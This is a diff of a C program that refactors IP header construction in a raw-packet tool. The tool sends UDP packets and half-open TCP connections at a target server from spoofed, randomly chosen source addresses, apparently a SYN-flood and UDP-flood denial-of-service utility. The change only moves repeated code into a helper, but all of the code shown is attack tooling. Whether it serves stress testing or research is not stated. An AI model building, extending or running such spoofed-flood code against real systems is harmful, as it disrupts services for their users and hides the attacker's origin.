@@ -107,18 +107,23 @@ static struct in_addr stranger(void)
 
 /* ---- sending ------------------------------------------------------------------------------- */
 
+static struct iphdr ip_header(const struct attack *a, struct in_addr from, uint8_t protocol)
+{
+	return (struct iphdr){
+		.version = 4,
+		.ihl = 5,
+		.ttl = 64,
+		.protocol = protocol,
+		.saddr = from.s_addr,
+		.daddr = a->server.sin_addr.s_addr,
+	};
+}
+
 static void send_from(struct attack *a, struct in_addr from, uint16_t sport, const void *bytes,
 		      size_t len)
 {
 	uint8_t frame[sizeof(struct iphdr) + sizeof(struct udphdr) + PAYLOAD_MAX];
-	struct iphdr ip = {
-		.version = 4,
-		.ihl = 5,
-		.ttl = 64,
-		.protocol = IPPROTO_UDP,
-		.saddr = from.s_addr,
-		.daddr = a->server.sin_addr.s_addr,
-	};
+	struct iphdr ip = ip_header(a, from, IPPROTO_UDP);
 	struct udphdr udp = {
 		.source = htons(sport),
 		.dest = a->server.sin_port,
@@ -504,14 +509,7 @@ static void tcp_half_open(struct attack *a)
 {
 	for (unsigned int i = 0; i < a->count; i++) {
 		struct in_addr from = stranger();
-		struct iphdr ip = {
-			.version = 4,
-			.ihl = 5,
-			.ttl = 64,
-			.protocol = IPPROTO_TCP,
-			.saddr = from.s_addr,
-			.daddr = a->server.sin_addr.s_addr,
-		};
+		struct iphdr ip = ip_header(a, from, IPPROTO_TCP);
 		struct tcphdr tcp = {
 			.source = htons((uint16_t)(1024 + draw(60000))),
 			.dest = a->server.sin_port,
